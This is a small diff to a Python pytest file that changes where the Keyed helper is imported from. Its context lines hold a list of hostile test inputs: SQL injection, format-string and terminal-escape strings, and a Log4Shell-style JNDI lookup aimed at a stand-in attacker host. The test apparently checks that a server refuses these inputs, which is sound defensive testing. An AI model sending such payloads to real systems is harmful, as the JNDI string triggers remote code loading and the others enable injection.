@@ -6,9 +6,8 @@ import time
 
 import pytest
 
-from conftest import Keyed
 from harness.expect import assert_refused
-from harness.server import make_key
+from harness.server import Keyed, make_key
 
 HOSTILE = ["' OR 1=1--", "%s%s%n", "\x1b[31mred\x1b[0m", "${jndi:ldap://evil.example/x}", "\x1b]0;title\x07",
            "{}{:?}", "x" * 4000]
